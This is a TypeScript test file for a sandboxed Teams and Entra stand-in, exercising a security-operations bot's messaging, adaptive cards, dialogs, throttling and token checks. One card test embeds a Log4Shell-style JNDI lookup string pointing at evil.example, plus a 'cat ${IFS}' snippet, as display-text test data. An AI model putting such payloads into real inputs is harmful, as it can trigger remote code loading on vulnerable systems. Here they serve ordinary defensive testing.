import {
  type Activity,
  CardFactory,
  CloudAdapter,
  ConfigurationBotFrameworkAuthentication,
  type ConversationParameters,
  type ConversationReference,
  MessageFactory,
  type TurnContext,
} from 'botbuilder';
import { ServiceClientCredentialsFactory } from 'botframework-connector';
import restify, { type Server } from 'restify';
import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { closeServer } from '../../src/sandbox/close-server.ts';
import { createEntra, type Entra } from '../../src/sandbox/entra.ts';
import { Faults } from '../../src/sandbox/faults.ts';
import { people, TENANT_ID } from '../../src/sandbox/people.ts';
import { findCardFault } from '../../src/sandbox/teams/check-card.ts';
import { createTeams, type TeamsStandIn } from '../../src/sandbox/teams/teams.ts';
import { createBotFrameworkKey } from '../../src/sandbox/teams/token.ts';

const APP = 'e8d3b6a2-4c19-4f75-9a60-7b1c5d2e8f34';
const SCOPE = 'https://api.botframework.com';
const SOC = '19:soc@thread.tacv2';
const CLOUD = '19:cloud@thread.tacv2';
const CARD_TYPE = 'application/vnd.microsoft.card.adaptive';

let clock = Date.now();
let teams: TeamsStandIn;
let entra: Entra;
let sandbox: Server;
let product: Server;
let adapter: CloudAdapter;
/** What the product does with an activity. */
let onTurn: (context: TurnContext) => Promise<unknown>;
const received: Activity[] = [];
let heardAtStart: Activity[] = [];
const faults = new Faults(() => undefined);

beforeAll(async () => {
  entra = await createEntra({ tenantId: TENANT_ID, clients: [] });
  sandbox = restify.createServer();
  sandbox.use(restify.plugins.queryParser({ mapParams: false }));
  sandbox.use(restify.plugins.bodyParser({ mapParams: false }));
  product = restify.createServer();
  teams = await createTeams({
    origin: () => originOf(sandbox),
    productUrl: () => originOf(product),
    appId: APP,
    entra,
    faults,
    changed: () => undefined,
    now: () => clock,
  });
  teams.mount(sandbox);
  await listen(sandbox);
  adapter = new CloudAdapter(botAuthentication());
  product.post(
    '/api/messages',
    restify.plugins.bodyParser({ mapParams: false }),
    async (request, response) => {
      await adapter.process(request, response, async (context) => {
        received.push(context.activity);
        await onTurn(context);
      });
    },
  );
  const installed = new Promise<void>((resolve) => {
    onTurn = async () => (received.length === 4 ? resolve() : undefined);
  });
  await listen(product);
  await installed;
  heardAtStart = [...received];
});

afterAll(async () => {
  await Promise.all([closeServer(product.server), closeServer(sandbox.server)]);
});

beforeEach(() => {
  // Out of every rate's window.
  clock += 3_600_001;
  received.length = 0;
  onTurn = async () => undefined;
});

describe('what the product hears', () => {
  it('is told at start that it was added to both channels, with the tenant and the team', () => {
    expect(heardAtStart.map(({ type, channelData }) => [type, channelData.channel.id])).toEqual([
      ['conversationUpdate', SOC],
      ['installationUpdate', SOC],
      ['conversationUpdate', CLOUD],
      ['installationUpdate', CLOUD],
    ]);
    expect(heardAtStart[1]).toMatchObject({
      channelId: 'msteams',
      action: 'add',
      recipient: { id: `28:${APP}` },
      channelData: { tenant: { id: TENANT_ID }, team: { id: '19:contoso-security@thread.tacv2' } },
    });
  });

  it('is refused everywhere once it was taken out of the team, until it is put back', async () => {
    await control('install', { change: 'remove' });
    expect(received.at(-1)).toMatchObject({ type: 'installationUpdate', action: 'remove' });
    expect((await connector('POST', activitiesOf(SOC), { type: 'message', text: 'x' })).status).toBe(403);
    await control('install', {});
    expect((await connector('POST', activitiesOf(SOC), { type: 'message', text: 'x' })).status).toBe(201);
  });

  it('hears of a channel only what mentions it, in the thread where it was said', async () => {
    await post(SOC, MessageFactory.text('INC-1042'));
    const card = lastMessage(SOC);
    expect(await control('say', { as: 'adam', conversation: SOC, text: 'lunch?' })).toEqual({ status: 204 });
    const said = { as: 'adam', conversation: SOC, text: '@Watchfloor help', replyTo: card.id };
    expect((await control('say', said)).status).toBe(200);
    expect(received).toHaveLength(1);
    expect(received[0]).toMatchObject({
      text: '<at>Watchfloor</at> help',
      conversation: { id: `${SOC};messageid=${card.id}`, conversationType: 'channel', isGroup: true },
      from: { aadObjectId: people[1]?.oid },
      entities: [{ type: 'mention', mentioned: { id: `28:${APP}` } }, { type: 'clientInfo' }],
    });
  });

  it('answers in a direct chat, and knows a guest by the roster', async () => {
    onTurn = (context) => context.sendActivity('Looking only.');
    await control('say', { as: 'guest', conversation: 'a:1guest', text: 'help' });
    expect(lastMessage('a:1guest')).toMatchObject({ from: { name: 'Watchfloor' }, text: 'Looking only.' });
    const guest = people.find(({ guest }) => guest);
    const members = await connector('GET', `conversations/${encodeURIComponent(SOC)}/members/${guest?.oid}`);
    expect(members.body).toMatchObject({ userRole: 'guest', email: 'guest@partner.example' });
  });

  it('refuses activities with a wrong audience, service URL, age or key', async () => {
    const activity = {
      type: 'message',
      channelId: 'msteams',
      serviceUrl: serviceUrl(),
      text: 'forged',
      id: '1',
    };
    const send = async (token: string) =>
      fetch(`${originOf(product)}/api/messages`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` },
        body: JSON.stringify(activity),
      }).then(({ status }) => status);
    // botbuilder writes each refusal to the console.
    vi.spyOn(console, 'error').mockImplementation(() => undefined);
    expect(await send(await teams.signToken())).toBe(200);
    received.length = 0;
    const other = await createBotFrameworkKey();
    expect(await send(await teams.signToken({ audience: 'another-bot' }))).toBe(401);
    expect(await send(await teams.signToken({ serviceUrl: 'https://evil.example/' }))).toBe(401);
    expect(await send(await teams.signToken({ expiresIn: '-10m' }))).toBe(401);
    expect(await send(await teams.signToken({ key: other }))).toBe(401);
    expect(received).toHaveLength(0);
    vi.restoreAllMocks();
  });
});

describe('what the product may post', () => {
  it('posts a card as a new thread, replies under it and edits it in place', async () => {
    const root = await post(SOC, cardMessage('New'));
    const card = lastMessage(SOC);
    expect(root.conversation?.id).toBe(`${SOC};messageid=${card.id}`);
    await inConversation(root, async (context) => {
      await context.sendActivity('Olivia took it.');
      await context.updateActivity({ ...cardMessage('Active'), id: card.id });
    });
    const messages = roomOf(SOC).messages.slice(-2);
    expect(messages[0]).toMatchObject({ id: card.id, posts: 2, edited: true });
    expect(JSON.stringify(messages[0]?.attachments)).toContain('Active');
    expect(messages[1]).toMatchObject({ root: card.id, text: 'Olivia took it.' });
    await inConversation(root, (context) => context.deleteActivity(card.id));
    expect(roomOf(SOC).messages.some(({ id }) => id === card.id)).toBe(false);
  });

  it('learns with 404 that a person deleted the card', async () => {
    const root = await post(SOC, cardMessage('New'));
    const { id } = lastMessage(SOC);
    await fetch(`${originOf(sandbox)}/api/teams/messages/${encodeURIComponent(SOC)}/${id}`, {
      method: 'DELETE',
    });
    const edit = inConversation(root, (context) => context.updateActivity({ ...cardMessage('Active'), id }));
    await expect(edit).rejects.toMatchObject({ statusCode: 404, code: 'ActivityNotFoundInConversation' });
  });

  it('opens the chat with one person, once', async () => {
    const [olivia] = people;
    const parameters = {
      bot: { id: `28:${APP}` },
      members: [{ id: olivia?.oid }],
      tenantId: TENANT_ID,
    };
    expect(await connector('POST', 'conversations', parameters)).toMatchObject({ body: { id: 'a:1olivia' } });
    const stranger = await connector('POST', 'conversations', {
      ...parameters,
      members: [{ id: '29:nobody' }],
    });
    expect(stranger.status).toBe(400);
    const group = await connector('POST', 'conversations', { ...parameters, isGroup: true });
    expect(group.status).toBe(400);
    const impostor = await connector('POST', 'conversations', { ...parameters, bot: { id: '28:another' } });
    expect(impostor.status).toBe(400);
  });

  it('is refused with a forged, foreign or missing token', async () => {
    const forger = await createEntra({ tenantId: TENANT_ID, clients: [] });
    const forged = await connector(
      'POST',
      activitiesOf(SOC),
      { type: 'message', text: 'x' },
      await forger.issue(SCOPE),
    );
    expect(forged).toMatchObject({ status: 401, body: { error: { code: 'Unauthorized' } } });
    const foreign = await entra.issue('https://management.azure.com');
    expect((await connector('POST', activitiesOf(SOC), {}, foreign)).status).toBe(401);
    const otherBot = await entra.issue(SCOPE, { appid: 'another-bot' });
    expect((await connector('POST', activitiesOf(SOC), {}, otherBot)).status).toBe(403);
  });

  it('is refused in conversations where it is not', async () => {
    const said = { type: 'message', text: 'x' };
    expect(await connector('POST', activitiesOf('19:hr@thread.tacv2'), said)).toMatchObject({
      status: 403,
      body: { error: { code: 'BotNotInConversationRoster' } },
    });
    for (const unknown of ['a:1nobody', `${SOC};messageid=1`]) {
      expect(await connector('POST', activitiesOf(unknown), said)).toMatchObject({
        status: 404,
        body: { error: { code: 'ConversationNotFound' } },
      });
    }
  });

  it('is refused a message that is too long, and a card that Teams cannot draw', async () => {
    const long = await connector('POST', activitiesOf(SOC), { type: 'message', text: 'x'.repeat(41_000) });
    expect(long).toMatchObject({ status: 413, body: { error: { code: 'MessageSizeTooBig' } } });
    const bad = { contentType: CARD_TYPE, content: { ...card('x'), version: '1.6' } };
    const refused = await connector('POST', activitiesOf(SOC), { type: 'message', attachments: [bad] });
    expect(refused).toMatchObject({ status: 400, body: { error: { code: 'BadSyntax' } } });
  });

  it('is throttled from the eighth write in a second on, and told how long to wait', async () => {
    const said = { type: 'message', text: 'x' };
    for (let count = 0; count < 7; count += 1) {
      expect((await connector('POST', activitiesOf(SOC), said)).status).toBe(201);
    }
    expect(await connector('POST', activitiesOf(SOC), said)).toMatchObject({ status: 429, retryAfter: '1' });
    expect((await connector('POST', activitiesOf(CLOUD), said)).status).toBe(201);
    clock += 1_000;
    expect((await connector('POST', activitiesOf(SOC), said)).status).toBe(201);
    expect(await connector('POST', activitiesOf(SOC), said)).toMatchObject({ status: 429, retryAfter: '1' });
    clock += 1_000;
    expect((await connector('POST', activitiesOf(SOC), said)).status).toBe(201);
  });
});

describe('what a person sees of an answer', () => {
  it('shows a returned card to the person who pressed and to nobody else, until the next edit', async () => {
    const root = await post(SOC, cardMessage('New'));
    const { id } = lastMessage(SOC);
    onTurn = (context) => answer(context, { statusCode: 200, type: CARD_TYPE, value: card('Yours') });
    const pressed = {
      as: 'priya',
      conversation: SOC,
      activity: id,
      verb: 'take',
      data: { incident: 7 },
      inputs: { note: 'mine' },
    };
    expect(await control('press', pressed)).toMatchObject({ status: 200, body: { statusCode: 200 } });
    expect(received[0]).toMatchObject({
      name: 'adaptiveCard/action',
      replyToId: id,
      value: {
        action: { type: 'Action.Execute', verb: 'take', data: { incident: 7, note: 'mine' } },
        trigger: 'manual',
      },
    });
    expect(Object.keys(lastMessage(SOC).personal ?? {})).toEqual(['priya']);
    expect(JSON.stringify(lastMessage(SOC).attachments)).toContain('New');
    await inConversation(root, (context) => context.updateActivity({ ...cardMessage('Active'), id }));
    expect(lastMessage(SOC).personal).toBeUndefined();
  });

  it('shows a refusal to the person who pressed, and a crash as "unable to reach app"', async () => {
    await post(SOC, cardMessage('New'));
    const { id } = lastMessage(SOC);
    const press = { as: 'guest', conversation: SOC, activity: id, verb: 'take' };
    const value = { code: 'Forbidden', message: 'Guests may look only.' };
    onTurn = (context) =>
      answer(context, { statusCode: 403, type: 'application/vnd.microsoft.error', value });
    await control('press', press);
    expect(teams.state().toasts.at(-1)).toMatchObject({
      person: 'guest',
      text: 'Guests may look only.',
      error: true,
    });
    onTurn = async () => undefined;
    expect((await control('press', press)).status).toBe(501);
    expect(teams.state().toasts.at(-1)).toMatchObject({
      text: 'Unable to reach app. Please try again.',
      error: true,
    });
  });

  it('opens a dialog, keeps it open when it cannot be submitted, closes it when it was', async () => {
    await post(SOC, cardMessage('New'));
    const { id } = lastMessage(SOC);
    const content = { contentType: CARD_TYPE, content: card('Close INC-1042') };
    onTurn = (context) =>
      answer(context, { task: { type: 'continue', value: { title: 'Close', card: content } } });
    await control('open', { as: 'lena', conversation: SOC, activity: id, data: { verb: 'close' } });
    expect(received[0]).toMatchObject({
      name: 'task/fetch',
      value: { data: { verb: 'close' }, context: { theme: 'default' } },
    });
    expect(teams.state().dialogs).toMatchObject([{ person: 'lena', activity: id, title: 'Close' }]);
    onTurn = (context) => answer(context, {}, 500);
    const submit = { as: 'lena', conversation: SOC, data: { reason: 'x' } };
    expect((await control('submit', submit)).status).toBe(500);
    expect(teams.state().dialogs).toHaveLength(1);
    onTurn = (context) => answer(context, { task: { type: 'message', value: 'Closed.' } });
    await control('submit', submit);
    expect(teams.state()).toMatchObject({ dialogs: [] });
    expect(teams.state().toasts.at(-1)).toMatchObject({ person: 'lena', text: 'Closed.', error: false });
  });

  it('asks for choices as they are typed', async () => {
    const found = {
      statusCode: 200,
      type: 'application/vnd.microsoft.search.searchResponse',
      value: { results: [] },
    };
    onTurn = (context) => answer(context, found);
    const typed = { as: 'adam', conversation: SOC, dataset: 'people', value: 'pri' };
    expect(await control('search', typed)).toEqual({ status: 200, body: found });
    expect(received[0]?.value).toMatchObject({
      queryText: 'pri',
      dataset: 'people',
      queryOptions: { top: 15 },
    });
  });
});

it('does what was asked and then loses the answer', async () => {
  faults.set('teams', { kind: 'lost-answer', count: 1 });
  const before = roomOf(SOC).messages.length;
  await expect(connector('POST', activitiesOf(SOC), { type: 'message', text: 'in doubt' })).rejects.toThrow();
  expect(roomOf(SOC).messages).toHaveLength(before + 1);
});

describe('cards', () => {
  it.each([
    ['an unknown element', { body: [{ type: 'Marquee' }] }, 'unknown type "Marquee"'],
    ['text that is missing, deep down', { body: [columns({ type: 'TextBlock' })] }, 'columns[0].items[0]'],
    ['an input without an id', { body: [{ type: 'Input.Text' }] }, 'has no id'],
    ['a button without a verb', { actions: [{ type: 'Action.Execute' }] }, 'has no verb'],
    ['a seventh button', { actions: Array(7).fill({ type: 'Action.Submit' }) }, 'Teams shows 6'],
    [
      'a link that is not https',
      { actions: [{ type: 'Action.OpenUrl', url: 'http://x.example' }] },
      'only https',
    ],
    [
      'a mention of nobody',
      { msteams: { entities: [{ type: 'mention', text: '<at>Ada</at>' }] } },
      'nowhere',
    ],
    ['28 kB', { body: [text('x'.repeat(28 * 1024))] }, 'is the most'],
  ])('with %s are refused', (_what, piece, fault) => {
    expect(findCardFault({ type: 'AdaptiveCard', version: '1.5', ...piece })).toContain(fault);
  });

  it('may show what only looks like a template, and Teams-only elements', () => {
    const code = {
      type: 'CodeBlock',
      codeSnippet: `cat \${IFS}`,
      language: 'PlainText',
      fallback: text('cat'),
    };
    const table = { type: 'Table', columns: [{ width: 1 }], rows: [{ cells: [{ items: [text('x')] }] }] };
    const body = [
      text(`\${jndi:ldap://evil.example/a}`),
      code,
      table,
      { type: 'RichTextBlock', inlines: ['a'] },
    ];
    expect(findCardFault({ type: 'AdaptiveCard', version: '1.5', body })).toBeUndefined();
  });
});

function text(words: string) {
  return { type: 'TextBlock', text: words };
}

function columns(item: object) {
  return { type: 'ColumnSet', columns: [{ type: 'Column', items: [item] }] };
}

function card(title: string) {
  return {
    type: 'AdaptiveCard',
    version: '1.5',
    body: [text(title)],
    actions: [{ type: 'Action.Execute', verb: 'take', title: 'Take it' }],
  };
}

function cardMessage(title: string): Partial<Activity> {
  return MessageFactory.attachment(CardFactory.adaptiveCard(card(title)));
}

function botAuthentication(): ConfigurationBotFrameworkAuthentication {
  class SandboxCredentials extends ServiceClientCredentialsFactory {
    override isValidAppId = async (appId: string) => appId === APP;
    override isAuthenticationDisabled = async () => false;
    override createCredentials: ServiceClientCredentialsFactory['createCredentials'] = async () => ({
      async signRequest(request) {
        request.headers.set('authorization', `Bearer ${await entra.issue(SCOPE, { appid: APP })}`);
        return request;
      },
    });
  }
  const metadata = `${originOf(sandbox)}/teams/openid`;
  return new ConfigurationBotFrameworkAuthentication(
    {
      MicrosoftAppId: APP,
      MicrosoftAppType: 'SingleTenant',
      MicrosoftAppTenantId: TENANT_ID,
      ToChannelFromBotLoginUrl: `https://login.microsoftonline.com/${TENANT_ID}`,
      ToChannelFromBotOAuthScope: SCOPE,
      ToBotFromChannelTokenIssuer: SCOPE,
      OAuthUrl: originOf(sandbox),
      CallerId: 'urn:botframework:azure',
      ToBotFromChannelOpenIdMetadataUrl: metadata,
      ToBotFromEmulatorOpenIdMetadataUrl: metadata,
    },
    new SandboxCredentials(),
  );
}

/** Posts a new thread in a channel, as the product does it; gives the reference to it. */
async function post(channel: string, activity: Partial<Activity>): Promise<Partial<ConversationReference>> {
  let reference: Partial<ConversationReference> = {};
  const parameters: Partial<ConversationParameters> = {
    isGroup: true,
    channelData: { channel: { id: channel } },
    activity: activity as Activity,
  };
  await adapter.createConversationAsync(
    APP,
    'msteams',
    serviceUrl(),
    SCOPE,
    parameters as ConversationParameters,
    async (context) => {
      const { serviceUrl: url, channelId, conversation, recipient: bot } = context.activity;
      reference = { serviceUrl: url, channelId, conversation, bot };
    },
  );
  return reference;
}

function inConversation(
  reference: Partial<ConversationReference>,
  work: (context: TurnContext) => Promise<unknown>,
): Promise<void> {
  return adapter.continueConversationAsync(APP, reference, async (context) => {
    await work(context);
  });
}

function answer(context: TurnContext, body: object, status = 200): Promise<unknown> {
  return context.sendActivity({ type: 'invokeResponse', value: { status, body } });
}

async function control(name: string, body: object) {
  const response = await fetch(`${originOf(sandbox)}/api/teams/${name}`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(body),
  });
  return response.json();
}

async function connector(method: string, path: string, body?: object, token?: string) {
  const response = await fetch(`${serviceUrl()}v3/${path}`, {
    method,
    headers: {
      'content-type': 'application/json',
      authorization: `Bearer ${token ?? (await entra.issue(SCOPE, { appid: APP }))}`,
    },
    ...(body && { body: JSON.stringify(body) }),
  });
  return {
    status: response.status,
    retryAfter: response.headers.get('retry-after'),
    body: await response.json(),
  };
}

function activitiesOf(conversation: string): string {
  return `conversations/${encodeURIComponent(conversation)}/activities`;
}

function roomOf(id: string) {
  const room = teams.state().conversations.find((conversation) => conversation.id === id);
  if (!room) throw new Error(`No conversation ${id}.`);
  return room;
}

function lastMessage(id: string) {
  const message = roomOf(id).messages.at(-1);
  if (!message) throw new Error(`No message in ${id}.`);
  return message;
}

const serviceUrl = () => `${originOf(sandbox)}/teams/`;

function originOf(server: Server): string {
  return `http://127.0.0.1:${server.address().port}`;
}

function listen(server: Server): Promise<void> {
  return new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
}
